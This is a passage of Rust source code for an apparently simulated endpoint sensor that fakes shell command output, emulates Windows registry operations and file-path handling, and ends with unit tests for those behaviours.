            "id" => ("uid=0(root) gid=0(root) groups=0(root)\n".into(), 0, false),
            "hostname" => (format!("{}\n", self.hostname), 0, false),
            "uname" => (self.uname(args), 0, false),
            "cat" => {
                let mut out = String::new();
                let mut rc = 0;
                for target in args.split_whitespace() {
                    match self
                        .resolve_relative(target, cwd)
                        .ok_or(Hresult::FILE_NOT_FOUND)
                        .and_then(|p| self.read_file(&p))
                    {
                        Ok(c) => out.push_str(&String::from_utf8_lossy(&c.read(0, 1 << 20))),
                        Err(_) => {
                            out.push_str(&format!("cat: {target}: No such file or directory\n"));
                            rc = 1;
                        }
                    }
                }
                (out, rc, false)
            }
            _ => (String::new(), 0, true),
        }
    }

    fn uname(&self, args: &str) -> String {
        let all = args.split_whitespace().any(|a| a == "-a");
        match (self.os, all) {
            (SensorOs::Linux, true) => format!(
                "Linux {} 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n",
                self.hostname
            ),
            (SensorOs::Linux, false) => "Linux\n".into(),
            (_, true) => format!(
                "Darwin {} 23.2.0 Darwin Kernel Version 23.2.0: Wed Nov 15 21:53:18 PST 2023; root:xnu-10002.61.3~2/RELEASE_X86_64 x86_64\n",
                self.hostname
            ),
            (_, false) => "Darwin\n".into(),
        }
    }

    fn run_sh_builtin(&self, line: &str, cwd: &str) -> (String, i64) {
        let (word, rest) = match line.split_once(char::is_whitespace) {
            Some((w, r)) => (w, r.trim_start()),
            None => (line, ""),
        };
        match word {
            "echo" => (format!("{rest}\n"), 0),
            "exit" => (String::new(), rest.trim().parse().unwrap_or(0)),
            "pwd" => (format!("{cwd}\n"), 0),
            "" => (String::new(), 0),
            other => match self.resolve_unix_exe(other, cwd) {
                Ok(key) => {
                    let (out, rc, _) = self.run_unix_program(&key, rest, cwd);
                    (out, rc)
                }
                Err(_) => (format!("sh: 1: {other}: not found\n"), 127),
            },
        }
    }

    /// Returns (stdout+stderr, exit code, keeps running when not waited for).
    fn run_program(&self, exe_key: &str, args: &str, cwd: &str) -> (String, i64, bool) {
        if !self.windows() {
            return self.run_unix_program(exe_key, args, cwd);
        }
        let base = last_component(exe_key).trim_end_matches(".exe");
        match base {
            "cmd" => {
                let lower = args.trim_start().to_ascii_lowercase();
                match lower.strip_prefix("/c").or_else(|| lower.strip_prefix("/k")) {
                    // Keep the original case of the command after the switch.
                    Some(rest) => {
                        let start = args.len() - rest.len();
                        let (out, rc) = self.run_cmd_builtin(unquote(args[start..].trim()), cwd);
                        (out, rc, false)
                    }
                    None => (String::new(), 0, false),
                }
            }
            "whoami" => ("nt authority\\system\r\n".into(), 0, false),
            "hostname" => (format!("{}\r\n", self.hostname), 0, false),
            "ipconfig" => (self.ipconfig(), 0, false),
            "taskkill" => ("ERROR: Invalid syntax.\r\n".into(), 1, false),
            _ => (String::new(), 0, true),
        }
    }

    fn run_cmd_builtin(&self, line: &str, cwd: &str) -> (String, i64) {
        let (word, rest) = match line.split_once(char::is_whitespace) {
            Some((w, r)) => (w, r),
            None => (line, ""),
        };
        match word.to_ascii_lowercase().as_str() {
            "echo" if rest.trim().is_empty() => ("ECHO is on.\r\n".into(), 0),
            "echo" => (format!("{rest}\r\n"), 0),
            "exit" => {
                let code = rest
                    .split_whitespace()
                    .find(|a| !a.eq_ignore_ascii_case("/b"))
                    .and_then(|a| a.parse::<i64>().ok())
                    .unwrap_or(0);
                (String::new(), code)
            }
            "ver" => ("\r\nMicrosoft Windows [Version 10.0.19045.3803]\r\n".into(), 0),
            "type" => {
                let target = unquote(rest.trim());
                let content = self
                    .resolve_relative(target, cwd)
                    .ok_or(Hresult::FILE_NOT_FOUND)
                    .and_then(|p| self.read_file(&p));
                match content {
                    Ok(c) => (String::from_utf8_lossy(&c.read(0, 1 << 20)).into_owned(), 0),
                    Err(e) => (format!("{}\r\n", e.desc()), 1),
                }
            }
            "cd" if rest.trim().is_empty() => (format!("{}\r\n", self.display_path(cwd)), 0),
            other => match self.resolve_exe(other, cwd) {
                Ok(key) => {
                    let (out, rc, _) = self.run_program(&key, rest, cwd);
                    (out, rc)
                }
                Err(_) => (
                    format!(
                        "'{word}' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n"
                    ),
                    1,
                ),
            },
        }
    }

    fn ipconfig(&self) -> String {
        format!(
            "\r\nWindows IP Configuration\r\n\r\n\r\nEthernet adapter Ethernet0:\r\n\r\n   Connection-specific DNS Suffix  . : corp.example\r\n   IPv4 Address. . . . . . . . . . . : {}\r\n   Subnet Mask . . . . . . . . . . . : 255.255.0.0\r\n   Default Gateway . . . . . . . . . : 10.0.0.1\r\n",
            sensor_ip(self.sensor_id)
        )
    }

    /// Rebuild the display-case path of an existing node key.
    fn display_path(&self, key: &str) -> String {
        let mut parts = Vec::new();
        let mut cur = key.to_owned();
        while let Some(parent) = parent_key(&cur) {
            parts.push(
                self.fs
                    .get(&cur)
                    .map_or_else(|| last_component(&cur).to_owned(), |n| n.name.clone()),
            );
            cur = parent;
        }
        let drive = cur.trim_end_matches('\\').to_ascii_uppercase();
        parts.reverse();
        format!("{drive}\\{}", parts.join("\\"))
    }

    // ----- registry ----------------------------------------------------------------------

    fn reg_key(&self, path: &str) -> Result<(String, &RegKey), Hresult> {
        let (lower, _) = norm_reg(path).ok_or(Hresult::FILE_NOT_FOUND)?;
        let key = self.registry.get(&lower).ok_or(Hresult::FILE_NOT_FOUND)?;
        Ok((lower, key))
    }

    fn reg_enum_key(&self, path: &str) -> Result<(Vec<Value>, Vec<Value>), Hresult> {
        let (lower, key) = self.reg_key(path)?;
        let values = key.values.iter().map(RegValue::to_json).collect();
        let prefix = format!("{lower}\\");
        let sub_keys = self
            .registry
            .range(prefix.clone()..)
            .take_while(|(k, _)| k.starts_with(&prefix))
            .filter(|(k, _)| !k[prefix.len()..].contains('\\'))
            .map(|(_, k)| Value::from(k.name.clone()))
            .collect();
        Ok((values, sub_keys))
    }

    /// Split `key\value` at the last backslash (§4.3 `reg query value` object).
    fn split_value_path(path: &str) -> Result<(&str, &str), Hresult> {
        path.rsplit_once('\\').ok_or(Hresult::INVALID_PARAMETER)
    }

    fn reg_query_value(&self, path: &str) -> Result<Value, Hresult> {
        let (key_path, name) = Self::split_value_path(path)?;
        let (_, key) = self.reg_key(key_path)?;
        key.values
            .iter()
            .find(|v| v.name.eq_ignore_ascii_case(name))
            .map(RegValue::to_json)
            .ok_or(Hresult::FILE_NOT_FOUND)
    }

    /// `RegCreateKeyEx` semantics: creates missing intermediate keys, opening an existing
    /// key is success. Returns the canonical lower-case key.
    fn reg_create_key_inner(&mut self, path: &str) -> Result<String, Hresult> {
        let (lower, display) = norm_reg(path).ok_or(Hresult::FILE_NOT_FOUND)?;
        let lower_parts: Vec<&str> = lower.split('\\').collect();
        let display_parts: Vec<&str> = display.split('\\').collect();
        for i in 1..lower_parts.len() {
            let k = lower_parts[..=i].join("\\");
            self.registry.entry(k).or_insert_with(|| RegKey {
                name: display_parts[i].to_owned(),
                values: Vec::new(),
            });
        }
        Ok(lower)
    }

    fn reg_delete_key(&mut self, path: &str) -> Result<(), Hresult> {
        check_reg_writable(path)?;
        let (lower, _) = self.reg_key(path)?;
        // Hive roots cannot be deleted, and `RegDeleteKey` refuses keys with subkeys.
        let prefix = format!("{lower}\\");
        let has_children = self
            .registry
            .range(prefix.clone()..)
            .next()
            .is_some_and(|(k, _)| k.starts_with(&prefix));
        if !lower.contains('\\') || has_children {
            return Err(Hresult::ACCESS_DENIED);
        }
        self.registry.remove(&lower);
        Ok(())
    }

    fn reg_delete_value(&mut self, path: &str) -> Result<(), Hresult> {
        check_reg_writable(path)?;
        let (key_path, name) = Self::split_value_path(path)?;
        let (lower, _) = self.reg_key(key_path)?;
        let key = self.registry.get_mut(&lower).ok_or(Hresult::FILE_NOT_FOUND)?;
        let idx = key
            .values
            .iter()
            .position(|v| v.name.eq_ignore_ascii_case(name))
            .ok_or(Hresult::FILE_NOT_FOUND)?;
        key.values.remove(idx);
        Ok(())
    }

    /// §4.3 `reg set value`: `value_type`, `value_data`, `overwrite` (server default false).
    fn reg_set_value(&mut self, cmd: &CommandInput) -> Result<(), Hresult> {
        let path = cmd.object_str()?;
        check_reg_writable(path)?;
        let (key_path, name) = Self::split_value_path(path)?;
        let data = cmd.extra.get("value_data").cloned().unwrap_or(Value::Null);
        // cbapi infers the type the same way when the caller gives none (§5.4).
        let value_type = match cmd.string("value_type") {
            Some(t) => t.to_ascii_uppercase(),
            None => match &data {
                Value::Number(_) => "REG_DWORD".into(),
                Value::Array(_) => "REG_MULTI_SZ".into(),
                _ => "REG_SZ".into(),
            },
        };
        let data = coerce_reg_data(&value_type, data)?;
        let overwrite = cmd.flag("overwrite");
        let (lower, _) = self.reg_key(key_path)?;
        let key = self.registry.get_mut(&lower).ok_or(Hresult::FILE_NOT_FOUND)?;
        let new = RegValue { name: name.to_owned(), value_type, data };
        match key.values.iter_mut().find(|v| v.name.eq_ignore_ascii_case(name)) {
            Some(_) if !overwrite => Err(Hresult::ALREADY_EXISTS),
            Some(existing) => {
                *existing = new;
                Ok(())
            }
            None => {
                key.values.push(new);
                Ok(())
            }
        }
    }
}

/// Validate/normalise `value_data` for a registry type.
fn coerce_reg_data(value_type: &str, data: Value) -> Result<Value, Hresult> {
    match value_type {
        "REG_DWORD" | "REG_DWORD_BIG_ENDIAN" => as_u64_lenient(&data)
            .filter(|n| *n <= u64::from(u32::MAX))
            .map(Value::from)
            .ok_or(Hresult::INVALID_PARAMETER),
        "REG_QWORD" => as_u64_lenient(&data).map(Value::from).ok_or(Hresult::INVALID_PARAMETER),
        "REG_SZ" | "REG_EXPAND_SZ" => match data {
            Value::String(_) => Ok(data),
            Value::Number(n) => Ok(Value::from(n.to_string())),
            _ => Err(Hresult::INVALID_PARAMETER),
        },
        "REG_MULTI_SZ" => match data {
            Value::Array(items) if items.iter().all(Value::is_string) => Ok(Value::Array(items)),
            Value::String(s) => Ok(Value::Array(vec![Value::String(s)])),
            _ => Err(Hresult::INVALID_PARAMETER),
        },
        "REG_BINARY" | "REG_NONE" => Ok(data),
        _ => Err(Hresult::INVALID_PARAMETER),
    }
}

/// The sensor protects its own service key (tamper protection).
fn check_reg_writable(path: &str) -> Result<(), Hresult> {
    match norm_reg(path) {
        Some((lower, _))
            if lower.starts_with("hklm\\system\\currentcontrolset\\services\\carbonblack") =>
        {
            Err(Hresult::ACCESS_DENIED)
        }
        _ => Ok(()),
    }
}

pub(crate) fn sensor_ip(sensor_id: u64) -> String {
    format!("10.0.{}.{}", (sensor_id / 250) % 256, sensor_id % 250 + 1)
}

fn dir_node(name: &str, t: i64) -> FsNode {
    FsNode {
        name: name.to_owned(),
        dir: true,
        content: Content::empty(),
        create_time: t,
        last_access_time: t,
        last_write_time: t,
        extra_attrs: &[],
    }
}

fn file_node(name: String, content: Content, t: i64, attrs: &'static [&'static str]) -> FsNode {
    FsNode {
        name,
        dir: false,
        content,
        create_time: t,
        last_access_time: t,
        last_write_time: t,
        extra_attrs: attrs,
    }
}

/// §4.3 directory entry shape (`filename`, not DOC5's `name`).
/// On Linux and macOS there are no Windows attributes beyond `DIRECTORY` and no 8.3 names
/// (inferred: the sensor reports what the platform has).
fn entry_json(name: &str, node: &FsNode, windows: bool) -> Value {
    let mut attributes: Vec<&str> = node.extra_attrs.to_vec();
    if node.dir {
        attributes.push("DIRECTORY");
    } else if windows {
        attributes.push("ARCHIVE");
    }
    let dots = name == "." || name == ".." || !windows;
    json!({
        "attributes": attributes,
        "create_time": node.create_time,
        "last_access_time": node.last_access_time,
        "last_write_time": node.last_write_time,
        "size": if node.dir { 0 } else { node.content.len() },
        "filename": name,
        "alt_name": if dots { String::new() } else { short_name(name) },
    })
}

/// The 8.3 alias `FindFirstFile` reports in `cAlternateFileName` (empty when the name
/// already is 8.3-compliant).
fn short_name(name: &str) -> String {
    let (base, ext) = match name.rsplit_once('.') {
        Some((b, e)) if !b.is_empty() => (b, e),
        _ => (name, ""),
    };
    let legal =
        |s: &str| s.chars().all(|c| c.is_ascii_alphanumeric() || "_-$~!#%&{}()@^`'".contains(c));
    if base.len() <= 8
        && ext.len() <= 3
        && legal(base)
        && legal(ext)
        && name.to_ascii_uppercase() == name
    {
        return String::new();
    }
    let clean = |s: &str| -> String {
        s.chars()
            .filter(|c| !c.is_whitespace() && *c != '.')
            .map(|c| c.to_ascii_uppercase())
            .collect()
    };
    let b: String = clean(base).chars().take(6).collect();
    let e: String = clean(ext).chars().take(3).collect();
    if e.is_empty() { format!("{b}~1") } else { format!("{b}~1.{e}") }
}

/// Case-insensitive `*`/`?` match (`FindFirstFile`'s wildcards), with the matcher the
/// gateway's routing rules use (`wildmatch`: exactly `*` and `?`, linear backtracking).
fn glob(pattern: &str, name: &str) -> bool {
    wildmatch::WildMatch::new_case_insensitive(pattern).matches(name)
}

/// Canonical node key: lower-case, `\` separators, `.`/`..` resolved, no trailing `\`
/// except on a drive root (`c:\`). `None` for anything that is not `X:\...`.
pub(crate) fn norm_path(path: &str) -> Option<String> {
    let p = path.trim().replace('/', "\\");
    let bytes = p.as_bytes();
    if bytes.len() < 2 || !bytes[0].is_ascii_alphabetic() || bytes[1] != b':' {
        return None;
    }
    let drive = (bytes[0] as char).to_ascii_lowercase();
    let mut parts: Vec<String> = Vec::new();
    for comp in p[2..].split('\\') {
        match comp {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            c => parts.push(c.to_lowercase()),
        }
    }
    Some(format!("{drive}:\\{}", parts.join("\\")))
}

/// Canonical node key of a Unix path: `/`-separated, `.`/`..` resolved, no trailing `/`
/// except the root; with `fold_case`, lower-case (macOS's default case-insensitive volume).
/// `None` for a relative path.
fn norm_unix(path: &str, fold_case: bool) -> Option<String> {
    let p = path.trim();
    if !p.starts_with('/') {
        return None;
    }
    let mut parts: Vec<String> = Vec::new();
    for comp in p.split('/') {
        match comp {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            c if fold_case => parts.push(c.to_lowercase()),
            c => parts.push(c.to_owned()),
        }
    }
    Some(format!("/{}", parts.join("/")))
}

fn parent_key(key: &str) -> Option<String> {
    if key.starts_with('/') {
        if key == "/" {
            return None;
        }
        let (parent, _) = key.rsplit_once('/')?;
        return Some(if parent.is_empty() { "/".to_owned() } else { parent.to_owned() });
    }
    let trimmed = key.strip_suffix('\\').unwrap_or(key);
    if trimmed.len() <= 2 {
        return None;
    }
    let (parent, _) = trimmed.rsplit_once('\\')?;
    Some(if parent.len() == 2 { format!("{parent}\\") } else { parent.to_owned() })
}

fn last_component(path: &str) -> &str {
    path.trim_end_matches(['\\', '/']).rsplit(['\\', '/']).next().unwrap_or(path)
}

/// Only A:, C: and D: exist (§3.1 `drives`); A: is an empty floppy drive.
fn check_drive(key: &str) -> Result<(), Hresult> {
    match key.as_bytes().first() {
        // Unix endpoints have one root.
        Some(b'/') => Ok(()),
        Some(b'c' | b'd') => Ok(()),
        Some(b'a') => Err(Hresult::NOT_READY),
        _ => Err(Hresult::PATH_NOT_FOUND),
    }
}

/// Registry hives are locked by the kernel and refused to the sensor: the access-denied
/// path tests rely on.
fn is_protected(key: &str) -> bool {
    key.starts_with("c:\\windows\\system32\\config\\")
}

fn is_locked(key: &str) -> bool {
    key == "c:\\pagefile.sys"
}

/// Canonical registry key: (`hklm\software\...`, `HKLM\SOFTWARE\...`), accepting both the
/// short and long hive names.
fn norm_reg(path: &str) -> Option<(String, String)> {
    let mut parts = path.split(['\\', '/']).filter(|s| !s.is_empty());
    let hive = match parts.next()?.to_ascii_uppercase().as_str() {
        "HKLM" | "HKEY_LOCAL_MACHINE" => "HKLM",
        "HKCU" | "HKEY_CURRENT_USER" => "HKCU",
        "HKU" | "HKEY_USERS" => "HKU",
        "HKCR" | "HKEY_CLASSES_ROOT" => "HKCR",
        "HKCC" | "HKEY_CURRENT_CONFIG" => "HKCC",
        _ => return None,
    };
    let rest: Vec<&str> = parts.collect();
    let display = std::iter::once(hive).chain(rest.iter().copied()).collect::<Vec<_>>().join("\\");
    Some((display.to_lowercase(), display))
}

/// Split a Windows command line into the program and the rest.
fn split_command_line(cmd: &str) -> (String, String) {
    let cmd = cmd.trim();
    if let Some(rest) = cmd.strip_prefix('"') {
        match rest.split_once('"') {
            Some((exe, args)) => (exe.to_owned(), args.trim_start().to_owned()),
            None => (rest.to_owned(), String::new()),
        }
    } else {
        match cmd.split_once(char::is_whitespace) {
            Some((exe, args)) => (exe.to_owned(), args.trim_start().to_owned()),
            None => (cmd.to_owned(), String::new()),
        }
    }
}

/// Strips one level of single or double quotes (a shell's `-c '...'`).
fn unquote_any(s: &str) -> &str {
    for q in ['"', '\''] {
        if let Some(inner) = s.strip_prefix(q).and_then(|s| s.strip_suffix(q)) {
            return inner;
        }
    }
    s
}

fn unquote(s: &str) -> &str {
    s.strip_prefix('"').and_then(|s| s.strip_suffix('"')).unwrap_or(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ep() -> Endpoint {
        Endpoint::new(1, "WIN-0001", &SensorSpec::default(), 1024, 4096, 1_700_000_000)
    }

    fn cmd(name: &str, object: Value, extra: Value) -> CommandInput {
        CommandInput {
            name: name.into(),
            object,
            extra: extra.as_object().cloned().unwrap_or_default(),
            upload: None,
        }
    }

    #[test]
    fn paths_normalise() {
        assert_eq!(norm_path("C:\\Windows\\").as_deref(), Some("c:\\windows"));
        assert_eq!(norm_path("c:").as_deref(), Some("c:\\"));
        assert_eq!(norm_path("C:/a/./b/../c").as_deref(), Some("c:\\a\\c"));
        assert_eq!(parent_key("c:\\windows").as_deref(), Some("c:\\"));
        assert_eq!(parent_key("c:\\"), None);
        assert!(norm_path("relative\\x").is_none());
    }

    #[test]
    fn short_names() {
        assert_eq!(short_name("Program Files"), "PROGRA~1");
        assert_eq!(short_name("NOTE.TXT"), "");
        assert_eq!(short_name("note.txt"), "NOTE~1.TXT");
        assert!(glob("*.txt", "Note.TXT"));
        assert!(!glob("n?te", "notes"));
    }

    #[test]
    fn guid_layout_matches_reference() {
        let e = ep();
        let system = &e.processes[0];
        assert!(system.proc_guid.starts_with("00000001-0000-0004-"));
        assert_eq!(system.parent_guid, "00000001-0000-0000-0000-000000000000");
    }

    #[test]
    fn cmd_echo_and_exit() {
        let mut e = ep();
        let c = cmd(
            "create process",
            json!("cmd.exe /c echo hello"),
            json!({"wait": true, "output_file": "C:\\Windows\\Temp\\o.txt"}),
        );
        let r = e.execute(&c, 1).map_err(|h| h.0);
        assert_eq!(r.map(|x| x.fields.get("return_code").cloned()), Ok(Some(json!(0))));
        assert_eq!(
            e.file("c:\\windows\\temp\\O.TXT").map(|c| c.to_vec()),
            Some(b"hello\r\n".to_vec())
        );
        let c = cmd("create process", json!("cmd.exe /c exit 3"), json!({"wait": true}));
        let rc = e.execute(&c, 1).ok().and_then(|x| x.fields.get("return_code").cloned());
        assert_eq!(rc, Some(json!(3)));
    }

    #[test]
    fn directory_semantics() {
        let e = ep();
        let listed = e.directory_list("C:\\evidence\\*").unwrap_or_default();
        let names: Vec<_> = listed.iter().filter_map(|v| v["filename"].as_str()).collect();
        assert_eq!(names, vec![".", "..", "big.bin", "empty.txt", "host.txt", "note.txt"]);
        assert_eq!(e.directory_list("C:\\evidence").map(|v| v.len()), Ok(1));
        assert_eq!(e.directory_list("C:\\nope\\*"), Err(Hresult::PATH_NOT_FOUND));
        assert_eq!(e.directory_list("C:\\evidence\\*.zip"), Err(Hresult::FILE_NOT_FOUND));
        let root = e.directory_list("C:\\").unwrap_or_default();
        assert!(root.iter().all(|v| v["filename"] != "."));
    }
}
